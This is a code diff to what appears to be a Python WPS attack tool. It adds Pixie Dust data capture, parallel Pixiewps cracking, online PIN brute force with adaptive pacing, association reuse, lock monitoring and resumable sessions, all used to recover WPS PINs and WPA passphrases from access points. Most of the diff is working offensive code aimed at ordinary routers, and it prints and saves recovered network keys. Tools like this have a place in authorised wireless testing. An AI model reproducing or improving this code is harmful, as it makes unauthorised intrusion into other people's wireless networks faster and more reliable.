+            field, length, label = PIXIE_HEXDUMPS[title]
+            value = get_hex(line)
+            assert(len(value) == length)
+            setattr(self.pixie_creds, field, value)
+            if pixiemode:
+                print('[P] {}: {}'.format(label, value.hex().upper()))
+        elif title == b'Network Key':
+            self.connection_status.status = 'GOT_PSK'
+            self.connection_status.setState(WPSState.WPS_DONE)
+            self.connection_status.wpa_psk = get_hex(line).decode('utf-8', errors='replace')
+        elif not pixiemode:
+            return
+        # Additional data collection for enhanced Pixie Dust attack
+        elif title in PIXIE_EXTRA_HEXDUMPS:
+            field, label = PIXIE_EXTRA_HEXDUMPS[title]
+            value = get_hex(line)
+            setattr(self.pixie_creds, field, value)
+            if verbose:
+                print('[P] {}: {}'.format(label, value.hex().upper()))
+        elif title in PIXIE_DEVICE_INFO and line.startswith(b'_ascii', len(title) + 15):
+            # The value follows on continuation lines
+            self.__ascii_dump = (title, bytearray())
+        elif title == b'OS Version':
+            version = line.split(b':', 1)[1].decode('utf-8', errors='replace').strip()
+            if '1.0' in version:
+                self.pixie_creds.key_version = 0x10
+            elif '2.0' in version:
+                self.pixie_creds.key_version = 0x20
+            if verbose:
+                print('[P] WPS Version: {}'.format(hex(self.pixie_creds.key_version)))
+
+    def __finish_ascii_dump(self, verbose):
+        title, value = self.__ascii_dump
+        self.__ascii_dump = None
+        field, label = PIXIE_DEVICE_INFO[title]
+        value = value.decode('utf-8', errors='replace').strip()
+        setattr(self.pixie_creds, field, value)
+        if verbose:
+            print('[P] {}: {}'.format(label, value))
 
-            if r.returncode == 0:
-                print(r.stdout)
-                lines = r.stdout.splitlines()
-                for line in lines:
-                    if ('[+]' in line) and ('WPS pin' in line):
-                        pin = line.split(':')[-1].strip()
-                        if pin == '<empty>':
-                            pin = "''"
-                        print(f"[+] {strategy_name} strategy successful!")
-                        return pin
-            else:
-                if self.print_debug:
-                    print(f"[-] {strategy_name} strategy failed:")
-                    print(r.stderr)
-        
-        print("[-] All Pixie Dust strategies failed")
-        return False
+    @staticmethod
+    def __parse_essid(line):
+        line = line.decode('utf-8', errors='replace')
+        return codecs.decode("'".join(line.split("'")[1:-1]), 'unicode-escape').encode('latin1').decode('utf-8', errors='replace')
+
+    def __startPixiewps(self, bssid, showcmd=False, full_range=False):
+        """Starts Pixiewps on a copy of the collected data in the background, while the exchange is cancelled"""
+        print('[*] Pixie Dust data collected, cancelling the exchange')
+        data = copy.copy(self.pixie_creds)
+        self.pixie_runner = PixiewpsRunner(print_debug=self.print_debug)
+        executor = concurrent.futures.ThreadPoolExecutor(max_workers=1)
+        self.pixie_job = executor.submit(self.__runPixiewps, bssid, data, showcmd, full_range, self.pixie_runner)
+        executor.shutdown(wait=False)
+
+    def __cancelPixiewps(self):
+        """Kills the background Pixiewps run and waits for its thread, so Ctrl+C is not held up by it"""
+        job, self.pixie_job = self.pixie_job, None
+        if job is None:
+            return
+        print('[*] Stopping Pixiewps…')
+        self.pixie_runner.cancel()
+        try:
+            job.result()
+        except Exception:
+            pass
+
+    def __runPixiewps(self, bssid, data, showcmd=False, full_range=False, runner=None):
+        """
+        Tries the in-process engine, then runs the Pixiewps strategies in parallel;
+        returns the PIN of the first one that finds it
+        """
+        cache = PixiewpsCache(self.pixiewps_dir + 'cache/')
+        digest = data.digest()
+        cached = cache.lookup(digest)
+        if cached:
+            print('[+] Pixiewps found PIN {} for this data before ({} strategy)'.format(
+                cached['pin'], cached['strategy']))
+            return cached['pin']
+        if self.strategy_stats is None:
+            self.strategy_stats = StrategyStats(self.pixiewps_dir + 'strategy_stats.json')
+        if self.native_pixie:
+            result = native_crack(data)
+            if result.pin is not None:
+                cache.store(digest, [], result, None)
+                self.strategy_stats.record(data, bssid, result)
+                self.__saveStrategyResult(bssid, data, result)
+                print('[+] WPS pin: {}'.format(result.pin))
+                print('[+] {} strategy found the PIN in {:.3f} s'.format(result.strategy, result.wall_time))
+                return result.pin
+            if self.print_debug:
+                print('[*] No weak E-S found in process ({:.3f} s)'.format(result.wall_time))
+
+        if self.pixiewps_capabilities is None:
+            self.pixiewps_capabilities = PixiewpsCapabilities(cache_file=self.pixiewps_dir + 'capabilities.json')
+        capabilities = self.pixiewps_capabilities
+        if not capabilities.installed:
+            print('[-] pixiewps is not installed')
+            return False
+        if self.print_debug:
+            print('[*] pixiewps {} at {}'.format(capabilities.version or '(unknown version)', capabilities.path))
+        strategies = build_strategies(data, capabilities, full_range)
+        untried = [(name, argv) for name, argv in strategies
+                   if not cache.hasFailed(digest, name, argv, capabilities.version)]
+        if len(untried) < len(strategies):
+            print('[*] Skipping {} strategies that failed on this data before'.format(len(strategies) - len(untried)))
+        strategies = untried
+        if not strategies:
+            print('[-] All Pixie Dust strategies failed on this data before')
+            return False
+        if runner is None:
+            runner = PixiewpsRunner(print_debug=self.print_debug)
+        if showcmd:
+            for name, argv in strategies:
+                print(f'[*] {name} strategy:')
+                print(' '.join(shlex.quote(arg) for arg in argv))
+        likely, fallback = self.strategy_stats.order(strategies, data, bssid)
+        print('[*] Running {} Pixiewps strategies, {} at once…'.format(
+            len(likely), min(runner.workers, len(likely))))
+        if fallback:
+            print('[*] {} never found the PIN for this chipset, kept as a fallback'.format(
+                ', '.join(name for name, _ in fallback)))
+
+        result = runner.run(likely, fallback)
+        if result.pin is None and runner.cancelled.is_set():
+            # Strategies killed by Ctrl+C have not failed on this data
+            return False
+        cache.store(digest, strategies, result, capabilities.version)
+        self.strategy_stats.record(data, bssid, result)
+        self.__saveStrategyResult(bssid, data, result)
+        if result.pin is None:
+            print('[-] All Pixie Dust strategies failed ({:.2f} s)'.format(result.wall_time))
+            return False
+        print(result.output)
+        print('[+] {} strategy found the PIN in {:.2f} s'.format(result.strategy, result.wall_time))
+        return result.pin
+
+    def __saveStrategyResult(self, bssid, data, result):
+        """Appends the winning strategy and the wall time of the Pixiewps run to strategies.csv"""
+        filename = self.pixiewps_dir + 'strategies.csv'
+        writeTableHeader = not os.path.isfile(filename)
+        with open(filename, 'a', newline='', encoding='utf-8') as file:
+            csvWriter = csv.writer(file, delimiter=';', quoting=csv.QUOTE_ALL)
+            if writeTableHeader:
+                csvWriter.writerow(['Date', 'BSSID', 'Manufacturer', 'Model', 'Strategy', 'Wall time'])
+            csvWriter.writerow([datetime.now().strftime("%d.%m.%Y %H:%M"), bssid,
+                                data.e_manufacturer, data.e_model,
+                                result.strategy or '', '{:.3f}'.format(result.wall_time)])
 
     def __credentialPrint(self, wps_pin=None, wpa_psk=None, essid=None):
         print(f"[+] WPS PIN: '{wps_pin}'")
@@ -489,21 +717,7 @@ class Companion:
         print(f"[+] AP SSID: '{essid}'")
 
     def __saveResult(self, bssid, essid, wps_pin, wpa_psk):
-        if not os.path.exists(self.reports_dir):
-            os.makedirs(self.reports_dir)
-        filename = self.reports_dir + 'stored'
-        dateStr = datetime.now().strftime("%d.%m.%Y %H:%M")
-        with open(filename + '.txt', 'a', encoding='utf-8') as file:
-            file.write('{}\nBSSID: {}\nESSID: {}\nWPS PIN: {}\nWPA PSK: {}\n\n'.format(
-                        dateStr, bssid, essid, wps_pin, wpa_psk
-                    )
-            )
-        writeTableHeader = not os.path.isfile(filename + '.csv')
-        with open(filename + '.csv', 'a', newline='', encoding='utf-8') as file:
-            csvWriter = csv.writer(file, delimiter=';', quoting=csv.QUOTE_ALL)
-            if writeTableHeader:
-                csvWriter.writerow(['Date', 'BSSID', 'ESSID', 'WPS PIN', 'WPA PSK'])
-            csvWriter.writerow([dateStr, bssid, essid, wps_pin, wpa_psk])
+        filename = saveReport(self.reports_dir, bssid, essid, wps_pin, wpa_psk)
         print(f'[i] Credentials saved to {filename}.txt, {filename}.csv')
 
     def __savePin(self, bssid, pin):
@@ -512,8 +726,28 @@ class Companion:
             file.write(pin)
         print('[i] PIN saved in {}'.format(filename))
 
+    def triedPins(self, bssid, shared=None):
+        """
+        Returns the record of the PINs the AP has rejected in this and earlier runs
+        @shared — TriedPins to use from now on, for Companions working on the same AP side by side
+        """
+        bssid = bssid.upper()
+        if shared is not None:
+            self.tried_pins[bssid] = shared
+        elif bssid not in self.tried_pins:
+            if self.remember_rejected:
+                self.tried_pins[bssid] = TriedPins.forBssid(self.sessions_dir, bssid)
+            else:
+                self.tried_pins[bssid] = TriedPins(None)
+        return self.tried_pins[bssid]
+
     def __prompt_wpspin(self, bssid):
         pins = self.generator.getSuggested(bssid)
+        tried = self.triedPins(bssid)
+        rejected = [pin for pin in pins if tried.isRejected(pin['pin'])]
+        if rejected:
+            print('[i] Skipping {} generated PINs the AP has already rejected'.format(len(rejected)))
+            pins = [pin for pin in pins if pin not in rejected]
         if len(pins) > 0:
             print(f'[*] Generated PINs for {bssid}:')
             print('{:<3} {:<10} {:<}'.format('#', 'PIN', 'Name'))
@@ -539,36 +773,78 @@ class Companion:
             print('[!] No PINs could be generated for this device')
             return None
 
-    def __wps_connection(self, bssid=None, pin=None, pixiemode=False, pbc_mode=False, verbose=None):
+    def __wps_connection(self, bssid=None, pin=None, pixiemode=False, pbc_mode=False, verbose=None, quiet=False,
+                         on_pixie_data=None):
+        """
+        Runs WPS attempts until one ends with an answer of the AP or the retry policy gives up.
+        The WPSState trace of every attempt is kept in self.attempt_trace
+        @on_pixie_data — called as soon as the Pixie Dust data is complete, before the exchange is cancelled
+        """
         if not verbose:
             verbose = self.print_debug
-        self.pixie_creds.clear()
-        self.connection_status.clear()
-        self.wpas.stdout.read(300)   # Clean the pipe
-
-        def handle_timeout():
-            print('[!] Connection timed out, retrying...')
-            if self.connection_status.incrementRetry():
-                self.sendOnly('WPS_CANCEL')
-                time.sleep(1)  # Reduced delay
-                return self.__wps_connection(bssid, pin, pixiemode, pbc_mode, verbose)
-            else:
-                print('[-] Maximum retries reached')
+        retries = collections.Counter()
+        self.attempt_trace = []
+        debug_retry = False
+        while True:
+            failure = self.__wps_attempt(bssid, pin, pixiemode, pbc_mode, verbose, quiet and not debug_retry,
+                                         on_pixie_data)
+            self.connection_status.failure = failure
+            self.attempt_trace.append((failure, self.connection_status.trace))
+            if failure == WPSFailure.REJECTED:
+                # wpa_supplicant refused to start, there is nothing to cancel
                 return False
+            self.__registerAttempt(bssid, WPSFailure.to_string(failure) if failure != WPSFailure.NONE else None)
+            if bssid:
+                self.__checkFrequency(bssid, failure)
+            if failure == WPSFailure.NACK and not pbc_mode:
+                self.triedPins(bssid).record(pin, self.connection_status.last_m_message)
+            elif failure in (WPSFailure.TIMEOUT, WPSFailure.DEAUTH) and not pbc_mode and pin and len(pin) == 8:
+                tried = self.triedPins(bssid)
+                if self.connection_status.isFirstHalfValid() and tried.firstHalf != pin[:4]:
+                    # No NACK, but the AP went past M5: it accepted the first half.
+                    # The brute force moves on to the second half instead of retrying this PIN
+                    tried.markFirstHalf(pin[:4])
+                    if quiet:
+                        self.sendAndReceive('WPS_CANCEL')
+                        return False
+                elif quiet and not debug_retry and self.__reachedAssociation():
+                    # M-messages are only logged at DEBUG level, the retry shows how far the exchange gets
+                    print('[*] Retrying the PIN at debug level to see how far the exchange gets')
+                    debug_retry = True
+            if failure == WPSFailure.NACK and quiet and self.fast_retry:
+                # No teardown: the next PIN may go over the same association, and if the AP
+                # has dropped it, WPS_REG replaces the WPS network anyway
+                self.reusable_bssid = bssid.upper()
+            else:
+                self.reusable_bssid = None
+                # The reply must be consumed, otherwise every following command reads the previous reply
+                # and unread replies pile up in the socket until wpa_supplicant can no longer answer
+                self.sendAndReceive('WPS_CANCEL')
 
-        def handle_deauth():
-            self.connection_status.deauth_count += 1
-            if self.connection_status.deauth_count >= self.connection_status.max_deauth:
-                print('[!] Too many deauthentications, AP may have WPS locked')
+            if failure not in WPS_RETRY_POLICY:
                 return False
-                
-            print('[!] Deauthenticated, attempting to reconnect...')
-            if self.connection_status.incrementRetry():
-                time.sleep(2)  # Wait before retry
-                return self.__wps_connection(bssid, pin, pixiemode, pbc_mode, verbose)
-            else:
-                print('[-] Maximum retries reached')
+            max_retries, backoff = WPS_RETRY_POLICY[failure]
+            retries[failure] += 1
+            if retries[failure] > max_retries:
+                if failure == WPSFailure.DEAUTH:
+                    print('[!] Too many deauthentications, AP may have WPS locked')
+                else:
+                    print('[-] Maximum retries reached')
                 return False
+            delay = backoff * retries[failure]
+            print('[!] {}, retrying in {:.0f} seconds…'.format(WPS_FAILURE_MESSAGES[failure], delay))
+            time.sleep(delay)
+
+    def __reachedAssociation(self):
+        """Whether the last attempt got as far as associating with the AP"""
+        return any(WPSState.ASSOCIATING <= state <= WPSState.WPS_DONE for state, _ in self.connection_status.trace)
+
+    def __wps_attempt(self, bssid, pin, pixiemode, pbc_mode, verbose, quiet, on_pixie_data=None):
+        """Runs a single WPS attempt; returns its WPSFailure class"""
+        self.pixie_creds.clear()
+        self.connection_status.clear()
+        self.wpas_output.begin_attempt()
+        self.__ascii_dump = None
 
         if pbc_mode:
             if bssid:
@@ -581,44 +857,150 @@ class Companion:
             print(f"[*] Trying PIN '{pin}'…")
             cmd = f'WPS_REG {bssid} {pin}'
 
-        r = self.sendAndReceive(cmd)
-        if 'OK' not in r:
-            self.connection_status.status = 'WPS_FAIL'
-            print(self._explain_wpas_not_ok_status(cmd, r))
-            return False
+        # Brute force only needs M-message progress and NACKs, which are reported at INFO level.
+        # Pixie Dust data is dumped between M1 and M3
+        if pixiemode:
+            self.setLogLevel(WpasLogLevel.MSGDUMP)
+        elif quiet:
+            self.setLogLevel(WpasLogLevel.INFO)
+        else:
+            self.setLogLevel(WpasLogLevel.DEBUG)
+
+        reusable, self.reusable_bssid = self.reusable_bssid, None
+        if not pbc_mode and not pixiemode and reusable == bssid.upper() and self.__restartEap(bssid, pin):
+            if verbose:
+                print('[*] Reusing the association, restarting EAP-WSC only')
+            # The AP may drop it right after REAUTHENTICATE: the timeout retry then starts over with WPS_REG
+            self.connection_status.timeout = WPS_REUSE_TIMEOUT
+        else:
+            self.__pinFrequency(bssid)
+            r = self.sendAndReceive(cmd)
+            if 'OK' not in r:
+                self.connection_status.status = 'WPS_FAIL'
+                print(self._explain_wpas_not_ok_status(cmd, r))
+                return WPSFailure.REJECTED
 
         self.connection_status.setState(WPSState.WPS_START)
 
+        status = self.connection_status
         while True:
-            if self.connection_status.isTimedOut():
-                return handle_timeout()
-
-            res = self.__handle_wpas(pixiemode=pixiemode, pbc_mode=pbc_mode, verbose=verbose)
-            if not res:
-                break
-
-            if 'Deauthentication notification' in str(res):
-                return handle_deauth()
-
-            if self.connection_status.status == 'WSC_NACK':
-                if self.connection_status.state >= WPSState.WPS_M5:
+            if status.isTimedOut():
+                status.failure = WPSFailure.TIMEOUT
+            elif not self.__handle_wpas(pixiemode=pixiemode, pbc_mode=pbc_mode, verbose=verbose):
+                # wpa_supplicant has exited
+                return WPSFailure.NONE
+            elif self.lock_monitor and self.lock_monitor.locked:
+                # No point in waiting for the AP to answer
+                status.ap_locked = True
+            elif self.cancel.is_set():
+                status.status = 'CANCELLED'
+                return WPSFailure.NONE
+            elif pixiemode and self.pixie_creds.got_all():
+                # Everything Pixiewps needs arrives by M3: the rest of the exchange is not awaited
+                status.status = 'PIXIE_DATA'
+                if on_pixie_data:
+                    on_pixie_data()
+                return WPSFailure.NONE
+
+            if status.ap_locked:
+                return WPSFailure.LOCKED
+            if status.status == 'WSC_NACK':
+                if status.last_m_message >= 6:
                     print('[!] Late stage WPS failure - could be wrong second half of pin')
-                break
-            elif self.connection_status.status == 'GOT_PSK':
-                break
-            elif self.connection_status.status == 'WPS_FAIL':
-                if self.connection_status.canRetry():
-                    print('[!] WPS failure detected, retrying...')
-                    self.sendOnly('WPS_CANCEL')
-                    time.sleep(1)  # Reduced delay
-                    return self.__wps_connection(bssid, pin, pixiemode, pbc_mode, verbose)
-                break
+                return WPSFailure.NACK
+            if status.status in ('GOT_PSK', 'PIN_ACCEPTED'):
+                return WPSFailure.NONE
+            if status.failure != WPSFailure.NONE:
+                return status.failure
+            if status.status == 'WPS_FAIL':
+                return WPSFailure.WPS_FAIL
+
+    def setFrequency(self, bssid, freq):
+        """Records the channel frequency (MHz) of an AP, e.g. from scan results, so attempts only scan that channel"""
+        if freq:
+            self.frequencies[bssid.upper()] = int(freq)
+
+    def __checkFrequency(self, bssid, failure):
+        """Unpins the channel of an AP the last attempt could not find on it"""
+        # Whatever follows the scan (authentication, association, any M-message) means the AP was found
+        reached_ap = any(state not in (WPSState.WPS_START, WPSState.SCANNING, WPSState.WPS_TIMEOUT)
+                         for state, _ in self.connection_status.trace)
+        if failure == WPSFailure.TIMEOUT and self.pinned_freq and not reached_ap:
+            # The AP may have moved: its channel is learnt again from the next all-channel scan
+            print('[!] {} was not found on {} MHz, scanning all channels again'.format(bssid, self.pinned_freq))
+            self.frequencies.pop(bssid.upper(), None)
+            self.frequency_misses[bssid.upper()] = time.monotonic()
+
+    def __bssFrequency(self, bssid):
+        """
+        Returns the frequency of the AP from wpa_supplicant's BSS table, or None if it has not seen it.
+        After a miss, only an entry refreshed since then counts
+        """
+        reply = self.sendAndReceive('BSS {}'.format(bssid))
+        fields = dict(line.split('=', 1) for line in reply.splitlines() if '=' in line)
+        try:
+            freq = int(fields['freq'])
+            missed_at = self.frequency_misses.get(bssid.upper())
+            if missed_at is not None and int(fields['age']) > time.monotonic() - missed_at:
+                return None
+        except (KeyError, ValueError):
+            return None
+        self.frequency_misses.pop(bssid.upper(), None)
+        return freq
 
-        self.sendOnly('WPS_CANCEL')
-        return False
+    def __pinFrequency(self, bssid):
+        """
+        Restricts wpa_supplicant scans to the channel of the AP: the scan that precedes
+        every association then probes one channel instead of all of them.
+        Without a BSSID, or while the channel is unknown, all channels are scanned
+        """
+        freq = None
+        if bssid:
+            freq = self.frequencies.get(bssid.upper())
+            if freq is None:
+                # Learnt from the scan of the previous attempt
+                freq = self.__bssFrequency(bssid)
+                self.setFrequency(bssid, freq)
+        if freq == self.pinned_freq:
+            return
+        if 'OK' in self.sendAndReceive('SET freq_list {}'.format(freq or '')):
+            self.pinned_freq = freq
+            if freq and self.print_debug:
+                print('[*] Scanning only {} MHz (channel {})'.format(freq, freq_to_channel(freq)))
+
+    def __wpasStatus(self):
+        """Returns the wpa_supplicant STATUS reply as a dict"""
+        reply = self.sendAndReceive('STATUS')
+        return dict(line.split('=', 1) for line in reply.splitlines() if '=' in line)
+
+    def __restartEap(self, bssid, pin):
+        """
+        Starts the attempt on the association the last one left, if it is still up:
+        the WPS network gets the new PIN and EAPOL restarts, with no scan, authentication
+        or association. Returns False if a full WPS_REG is needed
+        """
+        status = self.__wpasStatus()
+        if status.get('bssid', '').upper() != bssid.upper() or 'id' not in status or \
+                status.get('wpa_state') not in WPAS_ASSOCIATED_STATES:
+            return False
+        if 'OK' not in self.sendAndReceive('SET_NETWORK {} phase1 "pin={}"'.format(status['id'], pin)):
+            return False
+        return 'OK' in self.sendAndReceive('REAUTHENTICATE')
+
+    def __registerAttempt(self, bssid, outcome=None):
+        """Passes the phase timing of the finished attempt to the metrics"""
+        status = self.connection_status
+        self.metrics.registerAttempt(bssid or status.bssid, status.phases, time.monotonic(),
+                                     outcome or status.status)
+        status.phases = []
 
     def single_connection(self, bssid=None, pin=None, pixiemode=False, pbc_mode=False, showpixiecmd=False,
-                          pixieforce=False, store_pin_on_fail=False):
+                          pixieforce=False, store_pin_on_fail=False, quiet=False, pixie_export_dir=None,
+                          pixie_offline=False):
+        """
+        @pixie_export_dir — directory the Pixie Dust data is saved to for offline cracking
+        @pixie_offline — only save the Pixie Dust data, do not run Pixiewps
+        """
         if not pin:
             if pixiemode:
                 try:
@@ -635,19 +1017,37 @@ class Companion:
             elif not pbc_mode:
                 # If not pixiemode, ask user to select a pin from the list
                 pin = self.__prompt_wpspin(bssid) or '12345670'
+        # The Pixie Dust exchange is cancelled before the AP checks the PIN, any PIN will do there
+        if self.remember_rejected and not pixiemode and not pbc_mode and self.triedPins(bssid).isRejected(pin):
+            print('[-] {} has already rejected PIN {}, not trying it again'.format(bssid, pin))
+            return False
+        on_pixie_data = None
+        self.pixie_job = None
+        if pixiemode and not pixie_offline:
+            # Pixiewps starts on the data while the radio is still being released
+            on_pixie_data = lambda: self.__startPixiewps(bssid, showpixiecmd, pixieforce)
         if pbc_mode:
             self.__wps_connection(bssid, pbc_mode=pbc_mode)
             bssid = self.connection_status.bssid
             pin = '<PBC mode>'
         elif store_pin_on_fail:
             try:
-                self.__wps_connection(bssid, pin, pixiemode)
+                self.__wps_connection(bssid, pin, pixiemode, quiet=quiet, on_pixie_data=on_pixie_data)
             except KeyboardInterrupt:
                 print("\nAborting…")
                 self.__savePin(bssid, pin)
                 return False
         else:
-            self.__wps_connection(bssid, pin, pixiemode)
+            try:
+                self.__wps_connection(bssid, pin, pixiemode, quiet=quiet, on_pixie_data=on_pixie_data)
+            except KeyboardInterrupt:
+                # Pixiewps may already be running on the collected data
+                self.__cancelPixiewps()
+                raise
+
+        if self.connection_status.status == 'PIN_ACCEPTED':
+            print('[*] Repeating the attempt at debug level to get the network key…')
+            self.__wps_connection(bssid, pin)
 
         if self.connection_status.status == 'GOT_PSK':
             self.__credentialPrint(pin, self.connection_status.wpa_psk, self.connection_status.essid)
@@ -663,7 +1063,21 @@ class Companion:
             return True
         elif pixiemode:
             if self.pixie_creds.got_all():
-                pin = self.__runPixiewps(showpixiecmd, pixieforce)
+                if pixie_export_dir or pixie_offline:
+                    capture = PixieCapture(bssid, self.connection_status.essid, self.pixie_creds)
+                    path = capture.save(pixie_export_dir or self.pixiewps_dir + 'captures/')
+                    print('[i] Pixie Dust data saved to {}'.format(path))
+                    if pixie_offline:
+                        return False
+                if self.pixie_job:
+                    try:
+                        pin = self.pixie_job.result()
+                    except KeyboardInterrupt:
+                        self.__cancelPixiewps()
+                        raise
+                    self.pixie_job = None
+                else:
+                    pin = self.__runPixiewps(bssid, self.pixie_creds, showpixiecmd, pixieforce)
                 if pin:
                     return self.single_connection(bssid, pin, pixiemode=False, store_pin_on_fail=True)
                 return False
@@ -676,94 +1090,174 @@ class Companion:
                 self.__savePin(bssid, pin)
             return False
 
-    def __first_half_bruteforce(self, bssid, f_half, delay=None):
+    def __attemptOutcome(self):
+        """Classifies the last attempt for the pacer"""
+        status = self.connection_status
+        if status.ap_locked or (self.lock_monitor and self.lock_monitor.locked):
+            return AttemptOutcome.LOCKED
+        if status.status in ('WSC_NACK', 'PIN_ACCEPTED', 'GOT_PSK'):
+            return AttemptOutcome.RESPONSE
+        if status.failure in (WPSFailure.NONE, WPSFailure.TIMEOUT):
+            return AttemptOutcome.TIMEOUT
+        return AttemptOutcome.FAILURE
+
+    def bruteforceAttempt(self, bssid, pin):
+        """Tries the PIN quietly; returns the AttemptOutcome, the details are in self.connection_status"""
+        self.single_connection(bssid, pin, quiet=True)
+        return self.__attemptOutcome()
+
+    def __pacedAttempt(self, bssid, pin):
+        """
+        Tries the PIN and adjusts the delay between attempts to the AP answer
+        Returns True if the AP answered, otherwise the PIN has to be tried again
+        """
+        if self.lock_monitor:
+            self.lock_monitor.waitUnlocked(MAX_LOCKED_TIME)
+        start = time.monotonic()
+        outcome = self.bruteforceAttempt(bssid, pin)
+        if outcome == AttemptOutcome.LOCKED and self.lock_monitor:
+            # The monitor decides when to resume, the pacing stays as it was
+            self.lock_monitor.markLocked()
+            return False
+        previous_delay = self.pacer.delay
+        delay = self.pacer.update(outcome, time.monotonic() - start)
+        if outcome == AttemptOutcome.LOCKED:
+            print('[!] AP reports WPS setup locked, waiting {:.0f} seconds'.format(delay))
+        elif outcome != AttemptOutcome.RESPONSE:
+            print('[!] WPS transaction failed, re-trying last pin in {:.1f} seconds'.format(delay))
+        elif delay > previous_delay:
+            print('[!] AP answers slower, delay between attempts raised to {:.1f} seconds'.format(delay))
+        self.pacer.wait()
+        return outcome == AttemptOutcome.RESPONSE
+
+    def __first_half_bruteforce(self, bssid, f_half):
         """
         @f_half — 4-character string
         """
         checksum = self.generator.checksum
+        tried = self.triedPins(bssid)
         while int(f_half) < 10000:
+            if tried.isFirstHalfRejected(f_half):
+                f_half = str(int(f_half) + 1).zfill(4)
+                self.bruteforce.mask = f_half
+                self.checkpoint.update(f_half)
+                continue
             t = int(f_half + '000')
             pin = '{}000{}'.format(f_half, checksum(t))
-            self.single_connection(bssid, pin)
+            if not self.__pacedAttempt(bssid, pin):
+                if tried.firstHalf == f_half:
+                    # Accepted without a NACK: the second half 000 still has to be tried
+                    print('[+] First half found')
+                    self.bruteforce.mask = f_half + '000'
+                    self.checkpoint.update(self.bruteforce.mask)
+                    return f_half
+                continue
             if self.connection_status.isFirstHalfValid():
                 print('[+] First half found')
+                # The second half 000 has just been tried with it
+                self.bruteforce.mask = f_half + '001'
+                self.checkpoint.update(self.bruteforce.mask)
                 return f_half
-            elif self.connection_status.status == 'WPS_FAIL':
-                print('[!] WPS transaction failed, re-trying last pin')
-                return self.__first_half_bruteforce(bssid, f_half)
             f_half = str(int(f_half) + 1).zfill(4)
             self.bruteforce.registerAttempt(f_half)
-            if delay:
-                time.sleep(delay)
+            self.checkpoint.update(f_half)
         print('[-] First half not found')
         return False
 
-    def __second_half_bruteforce(self, bssid, f_half, s_half, delay=None):
+    def __second_half_bruteforce(self, bssid, f_half, s_half):
         """
         @f_half — 4-character string
         @s_half — 3-character string
         """
         checksum = self.generator.checksum
+        tried = self.triedPins(bssid)
         while int(s_half) < 1000:
+            if tried.isSecondHalfRejected(f_half, s_half):
+                s_half = str(int(s_half) + 1).zfill(3)
+                self.bruteforce.mask = f_half + s_half
+                self.checkpoint.update(f_half + s_half)
+                continue
             t = int(f_half + s_half)
             pin = '{}{}{}'.format(f_half, s_half, checksum(t))
-            self.single_connection(bssid, pin)
+            if not self.__pacedAttempt(bssid, pin):
+                continue
             if self.connection_status.last_m_message > 6:
                 return pin
-            elif self.connection_status.status == 'WPS_FAIL':
-                print('[!] WPS transaction failed, re-trying last pin')
-                return self.__second_half_bruteforce(bssid, f_half, s_half)
             s_half = str(int(s_half) + 1).zfill(3)
             self.bruteforce.registerAttempt(f_half + s_half)
-            if delay:
-                time.sleep(delay)
+            self.checkpoint.update(f_half + s_half)
         return False
 
-    def smart_bruteforce(self, bssid, start_pin=None, delay=None):
+    def smart_bruteforce(self, bssid, start_pin=None, delay=None, lock_monitor=True, checkpoint_every=1,
+                         checkpoint_interval=10.0, fsync_interval=30.0):
+        """
+        @checkpoint_every, @checkpoint_interval — the session is saved in the background
+            after this many attempts or seconds, whichever comes first
+        @fsync_interval — seconds between fsyncs of the session file; 0 syncs every save, None never
+        """
+        filename = self.sessions_dir + '{}.run'.format(bssid.replace(':', '').upper())
         if (not start_pin) or (len(start_pin) < 4):
-            # Trying to restore previous session
-            try:
-                filename = self.sessions_dir + '{}.run'.format(bssid.replace(':', '').upper())
-                with open(filename, 'r') as file:
-                    if input('[?] Restore previous session for {}? [n/Y] '.format(bssid)).lower() != 'n':
-                        mask = file.readline().strip()
-                    else:
-                        raise FileNotFoundError
-            except FileNotFoundError:
-                mask = '0000'
+            mask = restoreSession(filename, bssid) or '0000'
         else:
             mask = start_pin[:7]
-
-        try:
-            self.bruteforce = BruteforceStatus()
-            self.bruteforce.mask = mask
-            if len(mask) == 4:
-                f_half = self.__first_half_bruteforce(bssid, mask, delay)
-                if f_half and (self.connection_status.status != 'GOT_PSK'):
-                    self.__second_half_bruteforce(bssid, f_half, '001', delay)
-            elif len(mask) == 7:
-                f_half = mask[:4]
-                s_half = mask[4:]
-                self.__second_half_bruteforce(bssid, f_half, s_half, delay)
-            raise KeyboardInterrupt
-        except KeyboardInterrupt:
-            print("\nAborting…")
-            filename = self.sessions_dir + '{}.run'.format(bssid.replace(':', '').upper())
-            with open(filename, 'w') as file:
-                file.write(self.bruteforce.mask)
-            print('[i] Session saved in {}'.format(filename))
+        tried = self.triedPins(bssid)
+        if tried.rejectedCount():
+            print('[i] {} of 11000 PINs were ruled out in earlier runs and are skipped'.format(
+                tried.rejectedCount()))
+        if len(mask) == 4 and tried.firstHalf is not None:
+            print('[+] First half {} is known from an earlier run'.format(tried.firstHalf))
+            mask = tried.firstHalf + '000'
+
+        self.checkpoint = Checkpointer(filename, checkpoint_every, checkpoint_interval, fsync_interval)
+        self.checkpoint.update(mask)
+        with sigtermInterrupts():
+            try:
+                self.bruteforce = BruteforceStatus()
+                self.bruteforce.mask = mask
+                self.pacer = AttemptPacer(min_delay=delay or 0)
+                if lock_monitor:
+                    self.lock_monitor = LockMonitor(self.interface, bssid, freq=self.frequencies.get(bssid.upper())).start()
+                if len(mask) == 4:
+                    f_half = self.__first_half_bruteforce(bssid, mask)
+                    if f_half and (self.connection_status.status != 'GOT_PSK'):
+                        self.__second_half_bruteforce(bssid, f_half, self.bruteforce.mask[4:])
+                elif len(mask) == 7:
+                    f_half = mask[:4]
+                    s_half = mask[4:]
+                    self.__second_half_bruteforce(bssid, f_half, s_half)
+                raise KeyboardInterrupt
+            except KeyboardInterrupt:
+                print("\nAborting…")
+                self.checkpoint.update(self.bruteforce.mask)
+                print('[i] Session saved in {}'.format(filename))
+            finally:
+                # Whatever ended the run, the last position reaches the disk
+                self.checkpoint.close()
+                if self.lock_monitor:
+                    self.lock_monitor.stop()
+                    self.lock_monitor = None
 
     def cleanup(self):
-        self.retsock.close()
-        self.wpas.terminate()
-        os.remove(self.res_socket_file)
+        """Stops wpa_supplicant and removes the temporary files; only the first call does anything"""
+        if self.ctrl.closed:
+            return
+        self.__cancelPixiewps()
+        self.ctrl.close()
+        for tried in self.tried_pins.values():
+            tried.close()
+        if self.wpas is not None and self.wpas.poll() is None:
+            self.wpas.terminate()
         shutil.rmtree(self.tempdir, ignore_errors=True)
-        os.remove(self.tempconf)
+        try:
+            os.remove(self.tempconf)
+        except FileNotFoundError:
+            pass
 
     def __del__(self):
